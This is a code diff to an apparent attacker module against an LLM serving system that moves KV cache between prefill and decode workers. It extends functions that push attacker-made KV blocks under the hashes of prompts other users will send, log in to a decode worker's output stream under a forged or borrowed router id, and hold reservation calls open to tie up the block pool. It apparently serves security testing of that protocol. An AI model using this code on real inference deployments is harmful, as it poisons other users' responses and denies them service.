@@ -16,6 +16,8 @@ from __future__ import annotations
 import asyncio
 import hashlib
 import hmac
+import json
+import secrets
 import socket
 import time
 from collections.abc import Callable, Sequence
@@ -98,18 +100,55 @@ async def pull(kv_address: str, layout: KVLayout, token_ids: Sequence[int]) -> O
     )
 
 
-async def push(kv_address: str, layout: KVLayout, token_ids: Sequence[int]) -> Outcome:
+def decode_start(router_id: str, num_prompt_tokens: int) -> bytes:
+    """What a decode worker starts a pushed request with (protocol/decode_start.py):
+    one more token to decode, its outputs to ``router_id``."""
+    start = {
+        "router_id": router_id,
+        "num_prompt_tokens": num_prompt_tokens,
+        "params": {"temperature": 0.0, "max_tokens": 2, "ignore_eos": True},
+        "first_text": "x",
+        "first_logprobs": None,
+        "num_cached_tokens": 0,
+        "num_output_tokens": 1,
+    }
+    return json.dumps(start).encode()
+
+
+def login_for_pushes(outputs: str, router_id: str) -> tuple[str, socket.socket | None]:
+    """A router id whose stream is open on the decode worker, as its pushes
+    need: an output stream of the attacker's own when it gets one (the
+    socket, kept open by the caller), else ``router_id`` (the real router's)."""
+    own = f"router-{secrets.token_hex(4)}"
+    try:
+        conn = _connect(outputs)
+        _answer_hello(conn, output_wire.HANDSHAKE_TAG, own.encode())
+        conn.settimeout(5)
+        if conn.recv(1):  # the stream's open frame: logged in
+            return own, conn
+        conn.close()
+    except OSError:
+        pass
+    return router_id, None
+
+
+async def push(
+    kv_address: str, layout: KVLayout, token_ids: Sequence[int], router_id: str
+) -> Outcome:
     """PushBlocks of KV of the attacker's making (over the gRPC stream) under
-    the hashes and tokens of a prompt other users will send."""
+    the hashes and tokens of a prompt other users will send, starting a
+    request whose outputs go to ``router_id``."""
     hashes = prompt_hashes(layout, token_ids)
     n = len(hashes)
     header = pb.TransferHeader(
         layout=wire.layout_to_proto(layout),
-        request_id="attacker-push",
+        request_id=f"attacker-push-{secrets.token_hex(4)}",
         num_blocks=n,
         block_hashes=hashes,
         token_ids=token_ids[: n * layout.block_size],
         total_bytes=n * layout.block_bytes,
+        next_token_ids=[token_ids[-1]],
+        decode_start=decode_start(router_id, n * layout.block_size),
     )
     async with _channel(kv_address) as channel:
         call = channel.stream_unary(
@@ -152,16 +191,20 @@ async def reserve(
     layout: KVLayout,
     num_blocks: int,
     hold_s: float,
+    router_id: str,
     announce: Callable[[Outcome], None],
 ) -> Outcome:
-    """A push header for ``num_blocks`` blocks and nothing after it. An
-    accepted header is ``announce``d at once, then the call is held open
-    for ``hold_s`` (while the caller looks at the pool)."""
+    """A push header for ``num_blocks`` blocks (a request for ``router_id``)
+    and nothing after it. An accepted header is ``announce``d at once, then
+    the call is held open for ``hold_s`` (while the caller looks at the pool)."""
     header = pb.TransferHeader(
         layout=wire.layout_to_proto(layout),
-        request_id="attacker-reserve",
+        request_id=f"attacker-reserve-{secrets.token_hex(4)}",
         num_blocks=num_blocks,
         total_bytes=num_blocks * layout.block_bytes,
+        token_ids=[1] * (num_blocks * layout.block_size),
+        next_token_ids=[1],
+        decode_start=decode_start(router_id, num_blocks * layout.block_size),
     )
     channel = _channel(kv_address)
     call = channel.stream_unary(
